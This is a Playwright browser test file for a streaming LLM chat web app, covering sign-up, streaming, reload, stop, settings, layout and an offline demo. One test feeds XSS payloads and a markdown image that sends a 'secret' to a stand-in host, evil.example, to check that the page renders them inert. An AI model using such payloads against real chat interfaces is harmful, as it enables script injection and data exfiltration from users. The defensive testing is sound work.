"""Browser tests: Playwright driving Debian's Chromium against the real app (Uvicorn, the real
ASGI application, the real adapters) and the fake upstream.

Synchronisation is by events only: the fake holds a stream at a `Gate` until the test
releases it, and Playwright's `expect` waits for the page to reach a state.
"""

from __future__ import annotations

import re

import pytest

from tests.conftest import PASSWORD, answer, log_in, open_settings, send
from tests.fakes.upstream import Gate, Reply, Text, chunks

try:
    from playwright.sync_api import expect
except ImportError:  # pragma: no cover - the dev dependencies include Playwright
    expect = None

# Markdown-neutral (renders as one paragraph with the same text), but full of characters that
# break naive streaming: HTML, entities, multi-byte letters, an emoji outside the BMP.
ANSWER = "Streaming check: 1 < 2 && 3 > 2, <b>not bold</b>, a & b, café ünïcode 🚀 and the end."

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.usefixtures("orm_beside_playwright"),
]


def test_sign_up_send_and_watch_the_answer_stream(page, aimlapi):
    page.goto("/accounts/signup/")
    page.get_by_label("Username").fill("newcomer")
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_label("Password confirmation").fill(PASSWORD)
    page.get_by_role("button", name="Create account").click()
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()

    aimlapi.enqueue(Reply([Gate("start"), *chunks(ANSWER, size=3), Gate("end")]))
    send(page, "Stream something")
    expect(page.locator("article.msg-user .msg-text")).to_have_text("Stream something")
    expect(page.get_by_role("button", name="Stop")).to_be_enabled()
    expect(page.get_by_role("textbox", name="Message")).to_be_disabled()
    aimlapi.wait_for_gate("start")
    expect(answer(page).locator(".msg-status")).to_have_text("Thinking…")
    aimlapi.release("start")
    aimlapi.wait_for_gate("end")
    # Every streamed piece arrived, escaped, exactly once, before the final HTML replaces it.
    expect(answer(page).locator(".msg-tail")).to_have_text(ANSWER)
    assert answer(page).locator(".msg-tail b").count() == 0
    aimlapi.release("end")

    expect(answer(page).locator(".msg-body")).to_have_text(ANSWER)
    expect(answer(page).locator(".msg-meta")).to_contain_text("first token")
    expect(page.get_by_role("textbox", name="Message")).to_be_enabled()
    expect(page.get_by_role("button", name="Stop")).to_be_disabled()
    assert page.url.endswith(f"/c/{page.url.rstrip('/').rsplit('/', 1)[1]}/")
    expect(page.locator(".conversations a[aria-current=page]")).to_have_text("Stream something")


def test_reload_mid_answer_then_a_second_tab_then_come_back(page, aimlapi, browser):
    log_in(page)
    first, second = ANSWER[:40], ANSWER[40:]
    aimlapi.enqueue(
        Reply([*chunks(first, size=4), Gate("mid"), *chunks(second, size=4), Gate("end")])
    )
    send(page, "Reload me")
    aimlapi.wait_for_gate("mid")
    expect(answer(page).locator(".msg-tail")).to_have_text(first)

    page.reload()
    expect(answer(page).locator(".msg-tail")).to_have_text(first)
    other = page.context.new_page()
    other.goto(page.url)
    expect(answer(other).locator(".msg-tail")).to_have_text(first)
    aimlapi.release("mid")
    aimlapi.wait_for_gate("end")
    expect(answer(page).locator(".msg-tail")).to_have_text(ANSWER)
    expect(answer(other).locator(".msg-tail")).to_have_text(ANSWER)
    aimlapi.release("end")
    expect(answer(page).locator(".msg-body")).to_have_text(ANSWER)
    expect(answer(other).locator(".msg-body")).to_have_text(ANSWER)
    url = page.url
    page.close()
    other.close()

    later = browser.new_context(base_url=url.split("/c/")[0])
    returning = later.new_page()
    returning.goto("/accounts/login/")
    returning.get_by_label("Username").fill("alice")
    returning.get_by_label("Password").fill(PASSWORD)
    returning.get_by_role("button", name="Log in").click()
    returning.get_by_role("link", name="Reload me").click()
    expect(answer(returning).locator(".msg-body")).to_have_text(ANSWER)
    expect(returning.locator("article.msg-user .msg-text")).to_have_text("Reload me")
    later.close()


def test_stop_keeps_the_partial_answer_and_closes_the_upstream(page, aimlapi):
    log_in(page)
    aimlapi.enqueue(Reply([Text("Partial "), Text("answer"), Gate("never"), Text(" never shown")]))
    send(page, "Start and stop")
    aimlapi.wait_for_gate("never")
    expect(answer(page).locator(".msg-tail")).to_have_text("Partial answer")
    page.get_by_role("button", name="Stop").click()

    expect(answer(page).locator(".msg-note")).to_have_text("Stopped.")
    expect(answer(page).locator(".msg-body")).to_have_text("Partial answer")
    expect(answer(page).get_by_role("button", name="Retry")).to_be_visible()
    expect(page.get_by_role("textbox", name="Message")).to_be_enabled()
    assert aimlapi.wait_closed(0).client_disconnected


def test_a_send_asks_for_no_more_frames_a_second_than_the_page_shows(page, aimlapi):
    # Every event costs the page's main thread, shown or not: its answer's stream is paced
    # to the page (turns/pacing.py, `asked_interval`; app.js FRAMES_ASKED).
    log_in(page)
    aimlapi.enqueue(Reply([Text("Paced for the page")]))
    with page.expect_request(lambda r: r.method == "POST" and r.url.endswith("/messages/")) as sent:
        send(page, "How often?")
    assert sent.value.headers.get("x-chat-frames") == "20"
    expect(answer(page).locator(".msg-body")).to_have_text("Paced for the page")


def test_settings_arrive_in_the_request_exactly(page, aimlapi):
    log_in(page)
    open_settings(page)
    page.get_by_label("Model", exact=True).select_option("aimlapi:google/gemini-2.5-pro")
    page.get_by_label("System prompt").fill("Answer in one word.")
    page.get_by_label("Temperature").fill("0.42")
    page.get_by_label("Top P").fill("0.9")
    page.get_by_label("Max tokens").fill("321")
    page.get_by_label("Stop sequences").fill("END\nSTOP HERE")
    page.get_by_label("Seed").fill("42")
    page.get_by_label("Presence penalty").fill("3")
    expect(page.locator("#err-presence_penalty")).to_contain_text("Presence penalty must be -2–2")
    page.get_by_label("Presence penalty").fill("")
    aimlapi.enqueue(Reply([Text("Done.")]))
    send(page, "Settings check")
    expect(answer(page).locator(".msg-body")).to_have_text("Done.")

    body = aimlapi.requests[0].json
    assert body["model"] == "google/gemini-2.5-pro"
    assert body["messages"][0] == {"role": "system", "content": "Answer in one word."}
    assert body["temperature"] == 0.42
    assert body["top_p"] == 0.9
    assert body["max_tokens"] == 321
    assert body["seed"] == 42
    assert body["stop"] == ["END", "STOP HERE"]
    for absent in ("presence_penalty", "frequency_penalty", "max_completion_tokens"):
        assert absent not in body  # empty fields are not sent

    # The settings belong to the conversation: after a reload they are still there.
    page.reload()
    open_settings(page)
    expect(page.get_by_label("Temperature")).to_have_value("0.42")
    page.get_by_label("Temperature").fill("5")
    page.get_by_label("Temperature").press("Tab")
    expect(page.locator("#err-temperature")).to_contain_text("Temperature must be 0–2")
    expect(page.locator("#settings-status")).to_contain_text("Not saved")


def test_hostile_text_stays_inert(page, aimlapi):
    log_in(page)
    aimlapi.enqueue(
        Reply(
            [
                Text("<script>alert('model')</script> "),
                Text("<img src=x onerror=alert('img')> "),
                Text("[click](javascript:alert('link')) ![exfil](https://evil.example/?q=secret)"),
            ]
        )
    )
    send(page, "<img src=x onerror=alert('user')>")
    expect(page.locator("article.msg-user .msg-text")).to_have_text(
        "<img src=x onerror=alert('user')>"
    )
    body = answer(page).locator(".msg-body")
    expect(body).to_contain_text("<script>alert('model')</script>")
    assert body.locator("img, script").count() == 0
    assert body.locator("a[href^='javascript']").count() == 0
    assert page.locator("img").count() == 0  # no external image is ever loaded


def test_shift_enter_adds_a_line_and_enter_sends(page, aimlapi):
    log_in(page)
    aimlapi.enqueue(Reply([Text("Two lines received.")]))
    box = page.get_by_role("textbox", name="Message")
    one_line = box.evaluate("el => el.offsetHeight")
    box.fill("line one")
    box.press("Shift+Enter")
    box.type("line two")
    expect(box).to_have_value("line one\nline two")
    assert box.evaluate("el => el.offsetHeight") > one_line  # the box grows with its text
    box.press("Enter")
    expect(page.locator("article.msg-user .msg-text")).to_have_text("line one\nline two")
    expect(answer(page).locator(".msg-body")).to_have_text("Two lines received.")
    assert aimlapi.requests[0].json["messages"][-1]["content"] == "line one\nline two"
    # Ready for the next message: empty, one line high, enabled and focused.
    expect(box).to_be_focused()
    expect(box).to_have_value("")
    assert box.evaluate("el => el.offsetHeight") == one_line


def test_a_refused_send_keeps_the_text_and_gives_the_box_back(page, aimlapi, settings):
    settings.CHAT_LIMITS = {**settings.CHAT_LIMITS, "message_chars": 20}
    log_in(page)
    box = page.get_by_role("textbox", name="Message")
    box.fill("far too long for the limit set here")
    box.press("Enter")
    expect(page.locator("#composer-error")).to_contain_text("the limit is 20 characters")
    expect(box).to_be_enabled()
    expect(box).to_be_focused()
    expect(box).to_have_value("far too long for the limit set here")

    # A send that never reaches the app says so, and gives the box back with the text in it.
    page.route("**/messages/", lambda route: route.abort("connectionreset"))
    box.fill("lost on the way")
    box.press("Enter")
    expect(page.locator("#composer-error")).to_have_text(
        "Could not reach the app (network error). Nothing was lost: try again."
    )
    expect(box).to_be_enabled()
    expect(box).to_be_focused()
    expect(box).to_have_value("lost on the way")
    assert aimlapi.requests == []


def test_usable_at_360_px(browser, live_url, aimlapi):
    context = browser.new_context(base_url=live_url, viewport={"width": 360, "height": 740})
    page = context.new_page()
    log_in(page, "narrow")
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    expect(page.get_by_role("button", name="Menu", exact=True)).to_be_visible()
    expect(page.get_by_role("link", name="New chat")).not_to_be_in_viewport()
    page.get_by_role("button", name="Menu", exact=True).click()
    expect(page.get_by_role("link", name="New chat")).to_be_in_viewport()
    page.get_by_role("button", name="Close menu").click()
    expect(page.get_by_role("link", name="New chat")).not_to_be_in_viewport()
    page.get_by_role("button", name="Menu", exact=True).click()
    expect(page.get_by_role("button", name="Close menu")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.get_by_role("link", name="New chat")).not_to_be_in_viewport()
    # Focus returns to the Menu button, and the closed menu is out of the Tab order (and casts
    # no shadow at the edge): Shift+Tab from the first control of the page does not land in it.
    menu = page.get_by_role("button", name="Menu", exact=True)
    expect(menu).to_be_focused()
    expect(page.locator("#sidebar")).to_be_hidden()
    page.keyboard.press("Shift+Tab")
    assert (
        page.evaluate("document.getElementById('sidebar').contains(document.activeElement)")
        is False
    )
    aimlapi.enqueue(Reply([Text("Fits on a phone.")]))
    send(page, "Small screen")
    expect(answer(page).locator(".msg-body")).to_have_text("Fits on a phone.")
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    context.close()


def test_offline_demo_is_labelled_and_answers(page, settings):
    settings.PROVIDERS = {
        "demo": {
            "BACKEND": "chatapp.providers.demo.DemoProvider",
            "OPTIONS": {"first_token_delay": 0.05, "token_delay": 0.001},
        }
    }
    log_in(page)
    expect(page.get_by_role("note")).to_contain_text("Offline demo")
    open_settings(page)
    expect(page.get_by_label("Model", exact=True).locator("optgroup")).to_have_attribute(
        "label", "Offline demo"
    )
    send(page, "Hello demo")
    expect(answer(page).locator(".msg-body")).to_contain_text("Offline demo")
    expect(answer(page).locator(".msg-meta")).to_contain_text("Offline demo")
    expect(answer(page).locator("button.copy")).to_have_text("Copy code")
    assert re.search(r"Hello demo", answer(page).locator(".msg-body").inner_text())
